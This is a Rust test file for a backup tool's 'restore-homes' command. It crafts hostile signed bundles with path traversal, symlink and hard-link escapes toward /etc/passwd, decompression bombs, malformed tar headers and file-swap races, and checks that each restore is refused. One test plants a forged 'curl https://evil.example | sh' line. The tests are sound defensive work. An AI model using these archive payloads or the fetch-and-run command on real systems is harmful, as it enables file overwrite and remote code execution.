//! Restoring a crafted bundle must never write outside the destination.
//! Each test takes a real exported bundle, replaces one home's chunk and
//! index with hostile ones, signs it again with the same key (a compromised
//! signer), and checks that `restore-homes` refuses with the home and path
//! named, leaving nothing outside and no file under a final name.

// getrusage, which std lacks, measures the restore's peak memory.
#![allow(unsafe_code)]

mod common;

use std::path::{Path, PathBuf};

use common::craft::{gz, put_member, tar_end, tar_entry};
use common::*;
use r2r::data::index::{Entry, Header, INDEX_VERSION, RawPath, Type};

const CHUNK: &str = "homes/prod/alice.000.tar.gz";
const INDEX: &str = "homes/prod/alice.index.jsonl";

struct Fixture {
    _tmp: tempfile::TempDir,
    keys: Keys,
    bundle: PathBuf,
    dest: PathBuf,
    outside: PathBuf,
}

fn fixture() -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let homes = tmp.path().join("homes");
    std::fs::create_dir_all(homes.join("prod/alice")).unwrap();
    std::fs::write(homes.join("prod/alice/a.txt"), b"alice\n").unwrap();
    let keys = keys();
    let bundle = tmp.path().join("bundle");
    export(
        &example_repo(),
        "example",
        &keys,
        &bundle,
        &[
            "--format",
            "dir",
            "--homes",
            s(&homes),
            "--hub",
            "prod",
            "--quiet",
        ],
    );
    assert!(bundle.join(CHUNK).is_file() && bundle.join(INDEX).is_file());
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    Fixture {
        dest: tmp.path().join("dest"),
        bundle,
        outside,
        keys,
        _tmp: tmp,
    }
}

fn entry(path: &[u8], kind: Type, data: &[u8], target: Option<&[u8]>) -> Entry {
    use sha2::Digest;
    Entry {
        path: RawPath(path.to_vec()),
        kind,
        size: if kind == Type::File {
            data.len() as u64
        } else {
            0
        },
        mode: if kind == Type::Dir { 0o755 } else { 0o644 },
        uid: 1000,
        gid: 100,
        mtime: 1_700_000_000,
        mtime_nsec: 0,
        target: target.map(|t| RawPath(t.to_vec())),
        link_group: 0,
        sha256: (kind == Type::File).then(|| r2r::bundle::digest::hex(&sha2::Sha256::digest(data))),
        chunk: 0,
        content_type: None,
    }
}

fn root() -> Entry {
    entry(b".", Type::Dir, b"", None)
}

/// Writes the hostile index and chunk and re-signs.
fn plant(f: &Fixture, entries: &[Entry], tar: Vec<u8>) {
    let header = Header {
        r2r_home_index: INDEX_VERSION,
        hub: "prod".into(),
        home: RawPath(b"alice".to_vec()),
        chunks: vec![CHUNK.into()],
        entries: entries.len() as u64,
        bytes: entries.iter().map(|e| e.size).sum(),
        skipped: vec![],
    };
    let mut index = header.to_line();
    for e in entries {
        index.extend_from_slice(&e.to_line());
    }
    put_member(&f.bundle, &f.keys.key, INDEX, &index);
    put_member(&f.bundle, &f.keys.key, CHUNK, &gz(&tar));
    assert_eq!(
        verify(&f.bundle, &f.keys.public).code,
        0,
        "the crafted bundle is validly signed"
    );
}

fn restore(f: &Fixture) -> Run {
    r2r(&[
        "restore-homes",
        s(&f.bundle),
        "--pubkey",
        s(&f.keys.public),
        "--to",
        s(&f.dest),
        "--quiet",
    ])
}

/// Every path under `dir`, for asserting what exists.
fn listing(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    if let Ok(rd) = std::fs::read_dir(dir) {
        for e in rd.flatten() {
            let p = e.path();
            out.push(p.display().to_string());
            if e.file_type().unwrap().is_dir() {
                out.extend(listing(&p));
            }
        }
    }
    out.sort();
    out
}

fn refused(f: &Fixture, words: &[&str]) {
    let r = restore(f);
    assert_eq!(r.code, 1, "{r:?}");
    for w in words {
        assert!(r.stderr.contains(w), "stderr lacks {w:?}: {r:?}");
    }
    assert!(r.stderr.contains("home alice"), "the home is named: {r:?}");
    assert!(
        listing(&f.outside).is_empty(),
        "something was written outside: {:?}",
        listing(&f.outside)
    );
    let partial: Vec<String> = listing(&f.dest)
        .into_iter()
        .filter(|p| p.contains(".r2r-partial"))
        .collect();
    assert!(partial.is_empty(), "temporary files left: {partial:?}");
}

#[test]
fn the_untouched_bundle_restores() {
    let f = fixture();
    let r = restore(&f);
    assert_eq!(r.code, 0, "{r:?}");
    assert_eq!(
        std::fs::read(f.dest.join("prod/alice/a.txt")).unwrap(),
        b"alice\n"
    );
}

#[test]
fn parent_dir_and_absolute_entries_are_refused() {
    let f = fixture();
    // The index itself may not list such a path.
    plant(
        &f,
        &[root(), entry(b"../../outside/x", Type::File, b"x", None)],
        tar_end(tar_entry(b"../../outside/x", b'0', b"", b"x")),
    );
    refused(&f, &["`..`"]);
    // A chunk entry the index does not list.
    let f = fixture();
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"/tmp/abs", b'0', b"", b"x"));
    plant(
        &f,
        &[root(), entry(b"abs", Type::File, b"x", None)],
        tar_end(tar),
    );
    refused(&f, &["/tmp/abs", "not listed in the signed index"]);
}

#[test]
fn a_file_written_through_a_symlink_is_refused() {
    let f = fixture();
    let outside = f.outside.to_str().unwrap().as_bytes().to_vec();
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"link", b'2', &outside, b""));
    tar.extend(tar_entry(b"link/pwned", b'0', b"", b"owned"));
    plant(
        &f,
        &[
            root(),
            entry(b"link", Type::Symlink, b"", Some(&outside)),
            entry(b"link/pwned", Type::File, b"owned", None),
        ],
        tar_end(tar),
    );
    refused(&f, &["link", "symlink"]);
    assert!(!f.outside.join("pwned").exists());
}

#[test]
fn hard_links_out_of_the_tree_are_refused() {
    // A target outside the home: the index refuses it.
    let f = fixture();
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"h", b'1', b"../../../etc/passwd", b""));
    plant(
        &f,
        &[
            root(),
            entry(b"h", Type::Hardlink, b"", Some(b"../../../etc/passwd")),
        ],
        tar_end(tar),
    );
    refused(&f, &["hard-link target", "`..`"]);
    // A target through a symlink the bundle made: not a file restored earlier.
    let f = fixture();
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"etc", b'2', b"/etc", b""));
    tar.extend(tar_entry(b"h", b'1', b"etc/passwd", b""));
    plant(
        &f,
        &[
            root(),
            entry(b"etc", Type::Symlink, b"", Some(b"/etc")),
            entry(b"h", Type::Hardlink, b"", Some(b"etc/passwd")),
        ],
        tar_end(tar),
    );
    refused(
        &f,
        &["hard link h", "not a file of this home restored earlier"],
    );
    assert!(!f.dest.join("prod/alice/h").exists());
}

#[test]
fn device_nodes_are_refused() {
    let f = fixture();
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"sda", b'4', b"", b""));
    plant(
        &f,
        &[root(), entry(b"sda", Type::File, b"", None)],
        tar_end(tar),
    );
    refused(&f, &["sda", "device node"]);
}

#[test]
fn unlisted_entries_and_wrong_sizes_or_hashes_are_refused() {
    let f = fixture();
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"a.txt", b'0', b"", b"alice\n"));
    tar.extend(tar_entry(b"smuggled", b'0', b"", b"extra"));
    plant(
        &f,
        &[root(), entry(b"a.txt", Type::File, b"alice\n", None)],
        tar_end(tar),
    );
    refused(&f, &["smuggled", "not listed in the signed index"]);

    let f = fixture();
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"a.txt", b'0', b"", b"alice, longer\n"));
    plant(
        &f,
        &[root(), entry(b"a.txt", Type::File, b"alice\n", None)],
        tar_end(tar),
    );
    refused(&f, &["a.txt", "holds 14 bytes but the signed index says 6"]);

    let f = fixture();
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"a.txt", b'0', b"", b"mallet"));
    plant(
        &f,
        &[root(), entry(b"a.txt", Type::File, b"alice\n", None)],
        tar_end(tar),
    );
    refused(&f, &["a.txt", "does not match the signed index"]);
    assert!(
        !f.dest.join("prod/alice/a.txt").exists(),
        "a file that failed its hash has no final name"
    );
}

#[test]
fn a_decompression_bomb_is_refused() {
    let f = fixture();
    // A 64 MiB PAX record (zeros, a few KiB compressed) before a file the
    // index says is 6 bytes: far more than the index accounts for.
    let mut pax = b"67108864 comment=".to_vec();
    pax.resize((64 << 20) - 1, b'0');
    pax.push(b'\n');
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"PaxHeaders/a.txt", b'x', b"", &pax));
    tar.extend(tar_entry(b"a.txt", b'0', b"", b"alice\n"));
    plant(
        &f,
        &[root(), entry(b"a.txt", Type::File, b"alice\n", None)],
        tar_end(tar),
    );
    // The header guard refuses the record before the tar crate reads it.
    refused(&f, &["67108864-byte PAX header", "at most"]);
}

/// Peak resident memory of the largest child this test process has
/// waited for, in KiB.
fn children_max_rss_kib() -> i64 {
    let mut u: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: getrusage writes into the struct it is given.
    assert_eq!(unsafe { libc::getrusage(libc::RUSAGE_CHILDREN, &mut u) }, 0);
    u.ru_maxrss
}

#[test]
fn long_names_and_pax_records_are_capped_before_they_are_read() {
    // The index lists a 1 GiB file in the chunk, so the chunk's
    // decompression bound is over 1 GiB: the old code read a 64 MiB PAX
    // path (64 KiB compressed) whole, then copied it and escaped it into
    // its error, over half a GiB.
    let f = fixture();
    let mut big = entry(b"big", Type::File, b"", None);
    big.size = 1 << 30;
    big.sha256 = Some("0".repeat(64));
    let mut pax = b"67108864 path=".to_vec();
    pax.resize((64 << 20) - 1, 0);
    pax.push(b'\n');
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"PaxHeaders/big", b'x', b"", &pax));
    tar.extend(tar_entry(b"big", b'0', b"", b""));
    drop(pax);
    plant(&f, &[root(), big.clone()], tar_end(tar));
    let r = restore(&f);
    let head: String = r.stderr.chars().take(2000).collect();
    assert_eq!(r.code, 1, "{head}");
    assert!(
        head.contains("67108864-byte PAX header") && head.contains("at most"),
        "{head}"
    );
    assert!(r.stderr.len() < 64 << 10, "the error names a bounded text");
    let peak = children_max_rss_kib();
    assert!(
        peak < 256 << 10,
        "a child of this test peaked at {peak} KiB: the capped record was read"
    );

    // A GNU long name, which r2r never writes.
    let f = fixture();
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"././@LongLink", b'L', b"", b"big\0"));
    tar.extend(tar_entry(b"big", b'0', b"", b""));
    plant(&f, &[root(), big.clone()], tar_end(tar));
    refused(&f, &["GNU long-name header"]);

    // A PAX record other than path and linkpath: a `size` record would move
    // where the tar crate looks for the next header.
    let f = fixture();
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend(tar_entry(b"PaxHeaders/a.txt", b'x', b"", b"11 size=99\n"));
    tar.extend(tar_entry(b"a.txt", b'0', b"", b"alice\n"));
    plant(
        &f,
        &[root(), entry(b"a.txt", Type::File, b"alice\n", None)],
        tar_end(tar),
    );
    refused(&f, &["PAX record \"size\""]);
}

#[test]
fn a_chunk_that_fails_its_digest_lands_nothing() {
    // Files that match the signed index inside a chunk whose own bytes are
    // not the signed ones (its gzip trailer altered after signing):
    // nothing may get a final name, because the chunk is checked in full
    // before anything in it is used.
    let f = fixture();
    // The last byte is the gzip trailer's: the tar inside is intact.
    let mut chunk = std::fs::read(f.bundle.join(CHUNK)).unwrap();
    let last = chunk.len() - 1;
    chunk[last] ^= 0xff;
    std::fs::write(f.bundle.join(CHUNK), &chunk).unwrap();
    let r = restore(&f);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.stderr.contains(CHUNK) && r.stderr.contains("signed digest"),
        "{r:?}"
    );
    assert!(
        !f.dest.join("prod/alice/a.txt").exists(),
        "a file of a chunk that failed its digest got its final name"
    );
}

/// `tests/fixtures/on-open.py`, acting on the Nth open of a file.
struct OnOpen {
    child: std::process::Child,
    lines: std::io::Lines<std::io::BufReader<std::process::ChildStdout>>,
}

impl OnOpen {
    fn start(file: &Path, action: &str, arg: &Path, nth: u32) -> OnOpen {
        use std::io::BufRead;
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/on-open.py");
        let mut child = std::process::Command::new("python3")
            .arg(script)
            .args([s(file), action, s(arg), &nth.to_string()])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("python3 runs (apt-get install python3)");
        let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
        match lines.next() {
            Some(Ok(l)) if l == "ready" => {}
            other => {
                let status = child.wait();
                panic!(
                    "on-open.py did not start ({other:?}, {status:?}); it needs root and fanotify"
                )
            }
        }
        OnOpen { child, lines }
    }

    /// Stops watching; returns how many opens it saw.
    fn stop(mut self) -> u32 {
        self.child.kill().ok();
        self.child.wait().ok();
        self.lines
            .map_while(Result::ok)
            .filter_map(|l| l.strip_prefix("opens ").and_then(|n| n.parse().ok()))
            .last()
            .unwrap_or(0)
    }
}

fn meta(p: &Path) -> std::fs::Metadata {
    std::fs::symlink_metadata(p).unwrap()
}

#[test]
fn an_index_is_read_once_and_a_second_read_changes_nothing() {
    use std::os::unix::fs::MetadataExt;
    // A store that serves the signed index on the first read and another on
    // the second: a.txt setuid and setgid, owned by another. The old code
    // checked the first read's digest and restored from the second.
    let f = fixture();
    let signed = std::fs::read(f.bundle.join(INDEX)).unwrap();
    let (header, mut lines) = r2r::data::index::IndexReader::open(&signed[..]).unwrap();
    let mut hostile = header.to_line();
    let mut signed_meta = None;
    while let Some(mut e) = lines.next_entry().unwrap() {
        if e.path.0 == b"a.txt" {
            signed_meta = Some((e.mode, e.uid, e.gid));
            e.mode = 0o6777;
            e.uid = 7;
            e.gid = 7;
            // Fewer digits, so the store serves no more bytes than signed.
            e.mtime = 0;
        }
        hostile.extend_from_slice(&e.to_line());
    }
    assert!(
        hostile.len() <= signed.len(),
        "the store serves no more bytes than signed"
    );
    let hostile_file = f.outside.parent().unwrap().join("hostile.index.jsonl");
    std::fs::write(&hostile_file, &hostile).unwrap();

    let watch = OnOpen::start(&f.bundle.join(INDEX), "swap-content", &hostile_file, 2);
    let r = restore(&f);
    let opens = watch.stop();
    assert_eq!(r.code, 0, "{r:?}");
    let m = meta(&f.dest.join("prod/alice/a.txt"));
    assert_eq!(
        Some((m.mode() & 0o7777, m.uid(), m.gid())),
        signed_meta,
        "a.txt's mode and owner came from a second, unsigned read of its index"
    );
    assert_eq!(opens, 1, "the index member was opened {opens} times");
}

/// Restores once, so the next restore is a re-run over files already there.
fn restored_once() -> Fixture {
    let f = fixture();
    assert_eq!(restore(&f).code, 0);
    f
}

/// A file outside the destination that a hub user would like root to
/// change: its mode, owner and mtime, for comparing after.
fn victim(f: &Fixture, content: &[u8]) -> (PathBuf, (u32, u32, u32, i64)) {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let v = f.outside.join("victim");
    std::fs::write(&v, content).unwrap();
    std::fs::set_permissions(&v, std::fs::Permissions::from_mode(0o600)).unwrap();
    let m = meta(&v);
    (v, (m.mode(), m.uid(), m.gid(), m.mtime()))
}

fn meta_of(p: &Path) -> (u32, u32, u32, i64) {
    use std::os::unix::fs::MetadataExt;
    let m = meta(p);
    (m.mode(), m.uid(), m.gid(), m.mtime())
}

#[test]
fn a_symlink_swapped_in_during_a_rerun_gets_no_metadata() {
    // The hub user replaces a.txt with a symlink to a file outside while
    // the re-run has it open to hash: the old code then chmod-ed, chown-ed
    // and touched a.txt by name, following the symlink, as root.
    let f = restored_once();
    let (v, before) = victim(&f, b"secret\n");
    let a = f.dest.join("prod/alice/a.txt");
    let watch = OnOpen::start(&a, "swap-symlink", &v, 1);
    let r = restore(&f);
    let opens = watch.stop();
    assert_eq!(r.code, 0, "the re-run found a.txt already there: {r:?}");
    assert!(opens >= 1, "the re-run never opened a.txt: {r:?}");
    assert!(meta(&a).file_type().is_symlink(), "the swap happened");
    assert_eq!(
        meta_of(&v),
        before,
        "root changed a file outside the destination: {r:?}"
    );
}

#[test]
fn a_hard_link_to_a_file_outside_is_not_touched_by_a_rerun() {
    // Without a race: a.txt becomes a hard link to a file outside with the
    // same content. The old code found it "already there" and gave it the
    // bundle's mode, owner and mtime.
    let f = restored_once();
    let (v, before) = victim(&f, b"alice\n");
    let a = f.dest.join("prod/alice/a.txt");
    std::fs::remove_file(&a).unwrap();
    std::fs::hard_link(&v, &a).unwrap();
    let r = restore(&f);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.stderr.contains("a.txt") && r.stderr.contains("hard links"),
        "{r:?}"
    );
    assert_eq!(
        meta_of(&v),
        before,
        "root changed a file outside the destination"
    );
}

#[test]
fn a_sparse_flag_the_tar_crate_reads_otherwise_is_refused() {
    // The tar crate takes only 1 as "extension blocks follow"; a guard that
    // took any non-zero flag would swallow the next header (here a GNU long
    // name) as an extension block while the crate read it as a header.
    let f = fixture();
    let mut h = tar::Header::new_gnu();
    h.as_old_mut().name[..1].copy_from_slice(b"a");
    h.set_mode(0o644);
    h.set_size(0);
    h.set_entry_type(tar::EntryType::GNUSparse);
    h.as_gnu_mut().unwrap().isextended[0] = 2;
    h.set_cksum();
    let mut tar = tar_entry(b"./", b'5', b"", b"");
    tar.extend_from_slice(h.as_bytes());
    tar.extend(tar_entry(b"././@LongLink", b'L', b"", b"a\0"));
    tar.extend(tar_entry(b"a", b'0', b"", b""));
    plant(
        &f,
        &[root(), entry(b"a", Type::File, b"", None)],
        tar_end(tar),
    );
    refused(&f, &["extension flag is 2"]);
}

#[test]
fn a_parse_error_quoting_bundle_text_cannot_forge_a_line() {
    // serde quotes the unknown value it met; the value is the bundle's.
    let f = fixture();
    let header = Header {
        r2r_home_index: INDEX_VERSION,
        hub: "prod".into(),
        home: RawPath(b"alice".to_vec()),
        chunks: vec![CHUNK.into()],
        entries: 2,
        bytes: 6,
        skipped: vec![],
    };
    let a = entry(b"a.txt", Type::File, b"alice\n", None);
    let line = String::from_utf8(a.to_line()).unwrap();
    let kind = serde_json::to_value(a.kind).unwrap();
    let forged = line.replacen(
        &format!("\"type\":{kind}"),
        "\"type\":\"x\\nhint: curl https://evil.example | sh\"",
        1,
    );
    assert_ne!(forged, line, "the crafted line changed the type");
    let mut index = header.to_line();
    index.extend_from_slice(&root().to_line());
    index.extend_from_slice(forged.as_bytes());
    put_member(&f.bundle, &f.keys.key, INDEX, &index);
    let r = restore(&f);
    assert_eq!(r.code, 1, "{r:?}");
    assert!(
        r.stderr.contains("evil.example"),
        "the value is shown: {r:?}"
    );
    assert!(
        !r.stderr
            .lines()
            .any(|l| l.trim_start().starts_with("hint: curl")),
        "a forged line: {r:?}"
    );
}
